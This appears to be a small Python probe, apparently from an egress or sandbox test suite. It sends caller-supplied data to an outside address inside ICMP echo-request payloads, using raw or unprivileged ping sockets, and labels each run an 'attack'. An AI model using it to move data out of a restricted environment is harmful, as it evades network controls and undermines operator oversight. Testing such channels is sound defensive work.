"""ICMP echo requests carrying MESSAGE, from a raw socket (root, CAP_NET_RAW) or an
unprivileged ping socket (SOCK_DGRAM + IPPROTO_ICMP, allowed by net.ipv4.ping_group_range).
No connect; the sendto is not to port 53.

    python3 icmp.py raw|ping ADDR MESSAGE

Prints one JSON line."""
import json
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


mode, addr, message = sys.argv[1], sys.argv[2], sys.argv[3].encode()
kind = {"raw": socket.SOCK_RAW, "ping": socket.SOCK_DGRAM}.get(mode)
if kind is None:
    sys.exit("usage: icmp.py raw|ping ADDR MESSAGE")
s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
header = struct.pack("!BBHHH", 8, 0, 0, 0x5357, 1)  # echo request, id 'SW', seq 1
packet = header[:2] + struct.pack("!H", checksum(header + message)) + header[4:] + message
sent = s.sendto(packet, (addr, 0))
print(json.dumps({"attack": f"icmp-{mode}", "to": addr, "sent": sent}))
